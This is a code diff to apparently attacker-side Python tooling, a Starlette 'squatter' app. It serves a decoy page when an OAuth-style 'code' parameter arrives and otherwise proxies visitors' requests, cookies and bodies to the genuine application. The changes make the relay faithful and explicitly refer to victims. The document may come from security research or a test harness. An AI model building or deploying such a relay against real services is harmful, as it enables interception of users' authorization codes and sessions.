@@ -13,6 +13,7 @@ from starlette.routing import Route
 from attacker.redirect_handlers.page import DECOY
 
 _HOP_BY_HOP = frozenset({"connection", "content-encoding", "content-length", "transfer-encoding"})
+_PASSED_ON = ("accept", "accept-language", "content-type", "user-agent")
 
 
 def squatter_app(http: httpx.AsyncClient, honest_app: str) -> Starlette:
@@ -21,10 +22,18 @@ def squatter_app(http: httpx.AsyncClient, honest_app: str) -> Starlette:
     async def answer(request: Request) -> Response:
         if "code" in request.query_params:
             return HTMLResponse(DECOY)
+        query: bytes = request.scope["query_string"]
+        # The path as it was sent: an escaped character must stay escaped.
+        target = request.scope["raw_path"] + (b"?" + query if query else b"")
+        # Always a cookie header, if only an empty one: else the HTTP client would send what it
+        # keeps from another victim.
+        cookie = {"cookie": request.headers.get("cookie", "")}
+        passed_on = {name: request.headers[name] for name in _PASSED_ON if name in request.headers}
         relayed = await http.request(
             request.method,
-            f"{honest_app}{request.url.path}?{request.url.query}".rstrip("?"),
-            headers={"cookie": request.headers.get("cookie", "")},
+            httpx.URL(honest_app).copy_with(raw_path=target),
+            headers=passed_on | cookie,
+            content=await request.body(),
         )
         response = Response(relayed.content, relayed.status_code)
         response.raw_headers.extend(
